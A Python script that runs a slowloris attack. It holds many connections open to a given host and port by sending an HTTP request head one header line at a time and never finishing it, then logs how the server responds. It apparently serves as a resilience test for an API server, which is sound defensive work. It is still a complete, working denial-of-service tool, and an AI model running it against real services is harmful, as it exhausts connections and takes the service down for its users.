#!/usr/bin/env python3
"""Slow clients (slowloris): CONNECTIONS connections that each send a request head one header line at a time,
one line every 1–2 s, never finishing it; a connection the server closes is opened again, so CONNECTIONS stay held.

    slowloris.py HOST PORT CONNECTIONS DURATION_S OUT.json

Writes {"target", "opened", "closed_by_server", "open_at_end", "answers"}: `answers` counts the responses the
server sent on such connections (a 408/431 before closing, for instance).
"""
import asyncio
import json
import random
import sys
import time

HOST, PORT, TARGET, DURATION, OUT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5]
stats = {"target": TARGET, "opened": 0, "closed_by_server": 0, "open_at_end": 0, "answers": 0, "connect_errors": 0}


async def slow_client(index, stop_at):
    rng = random.Random(index)
    while time.monotonic() < stop_at:
        try:
            reader, writer = await asyncio.open_connection(HOST, PORT)
        except OSError:
            stats["connect_errors"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["opened"] += 1
        stats["open_at_end"] += 1
        try:
            writer.write(b"GET /v1/hashtags/skincare/analysis?prompt=slow HTTP/1.1\r\nHost: proof\r\n")
            await writer.drain()
            line = 0
            while time.monotonic() < stop_at:
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=rng.uniform(1.0, 2.0))
                except asyncio.TimeoutError:
                    line += 1
                    writer.write(b"X-Slow-%d: %d\r\n" % (line, rng.randrange(1 << 30)))
                    await writer.drain()
                    continue
                if data.startswith(b"HTTP/"):
                    stats["answers"] += 1
                if not data:
                    stats["closed_by_server"] += 1
                    break
        except (ConnectionError, OSError):
            stats["closed_by_server"] += 1
        finally:
            stats["open_at_end"] -= 1
            writer.close()
    return


async def main():
    stop_at = time.monotonic() + DURATION
    clients = []
    for index in range(TARGET):
        clients.append(asyncio.ensure_future(slow_client(index, stop_at)))
        if index % 50 == 49:
            await asyncio.sleep(0.05)  # open them over a fraction of a second, not in one SYN flood
    await asyncio.sleep(max(0.0, stop_at - time.monotonic() - 0.5))
    held = stats["open_at_end"]
    await asyncio.gather(*clients, return_exceptions=True)
    stats["open_at_end"] = held
    json.dump(stats, open(OUT, "w"))


if __name__ == "__main__":
    asyncio.run(main())
